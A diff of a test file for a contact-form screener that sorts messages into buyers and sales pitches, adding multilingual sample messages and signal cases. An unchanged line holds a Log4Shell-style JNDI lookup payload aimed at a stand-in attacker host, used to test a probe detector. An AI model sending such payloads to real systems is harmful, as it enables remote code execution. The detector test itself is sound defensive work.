@@ -27,6 +27,8 @@ describe('a buyer passes', () => {
     'was kostet das und wann liefern Sie',
     'おいくらですか',
     'कीमत क्या है',
+    'We give small firms loans of up to 150k within 24 hours. What response times do your clients see, and is there an SLA?',
+    'Wir produzieren Imagefilme und ertrinken in Anfragen. Lohnt sich euer Tool schon für drei Leute?',
     '',
   ])('%s', (message) => expect(says(message)).toMatchObject({ verdict: 'pass', class: 'buyer' }))
   test('whatever a look-up failed to find', () =>
@@ -42,6 +44,8 @@ describe('a pitch is held', () => {
     'I noticed your website has few visitors. We help firms like yours rank on the first page of Google, guaranteed.',
     'Wir helfen Unternehmen wie Ihrem, neue Kunden zu gewinnen. Hätten Sie nächste Woche 15 Minuten?',
     'Nous proposons la création de sites modernes à partir de 490 €. Souhaitez-vous un devis gratuit ?',
+    'Our engineers join your team within days. May I send you three CVs?',
+    'Vyřídíme pro vaši firmu dotaci. Platíte až po schválení, stačí odpovědět.',
     '弊社ではSEO対策により集客を3倍にした実績がございます。無料診断をご提案させていただけないでしょうか。',
   ])('%s', (message) => expect(says(message)).toMatchObject({ verdict: 'hold', class: 'pitch' }))
   test('and the reason quotes what it goes by', () => {
@@ -66,6 +70,25 @@ describe('each signal is noticed, and no other instead', () => {
     ['nobodys_name', { name: 'Mickey Mouse' }, {}],
     ['contradiction', { name: 'RobertPah', company: 'google' }, {}],
     ['gibberish', { message: 'dfgdfg xkqzvwt' }, {}],
+    ['gibberish', { message: 'qpwo eiru tyal skdj' }, {}],
+    [
+      'only_offers',
+      { message: 'Our engineers join your team within days, and leave it as soon as you like.' },
+      {},
+    ],
+    [
+      'only_trades',
+      { message: 'Link building for your website, with many domains to choose from, every week.' },
+      {},
+    ],
+    [
+      'sells_loudly',
+      {
+        message:
+          'We build websites for your trade and do SEO, from $99. Save your costs, guaranteed. Shall I send you a proposal this week? What if your business grew?',
+      },
+      {},
+    ],
     ['gibberish_name', { name: 'GnNAvXdqKbOTr' }, {}],
     ['probe', { message: '${jndi:ldap://evil.example/a}' }, {}],
     ['link_markup', { message: '[url=https://a.example]a[/url]' }, {}],
@@ -90,10 +113,14 @@ describe('names and words that are only rare to us are no gibberish', () => {
     'Þórður Hjálmarsson',
     'Xhevdet Qosja',
   ])('%s', (name) => expect(screened({ name, message: 'ok' }).verdict).toBe('pass'))
-  test.each(['GDPR HIPAA ISO27001', 'Rindfleischetikettierung', 'strč prst skrz krk', 'hmm', 'LGTM thx'])(
-    '%s',
-    (message) => expect(codes({ message })).not.toContain('gibberish'),
-  )
+  test.each([
+    'GDPR HIPAA ISO27001',
+    'Rindfleischetikettierung',
+    'strč prst skrz krk',
+    'hmm',
+    'LGTM thx',
+    'type your query',
+  ])('%s', (message) => expect(codes({ message })).not.toContain('gibberish'))
 })
 
 test('whom we learned to trust passes, whatever else is noticed', () => {
